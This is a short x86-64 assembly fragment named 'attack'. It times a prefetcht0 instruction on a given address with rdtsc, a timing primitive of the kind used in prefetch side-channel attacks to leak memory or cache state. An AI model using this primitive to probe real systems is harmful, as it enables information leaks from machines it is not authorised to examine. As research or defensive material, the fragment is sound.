function attack
    rdtsc
    mov %eax,%ecx
    prefetcht0 (%rdi)
    rdtsc
    sub %ecx,%eax
    ret
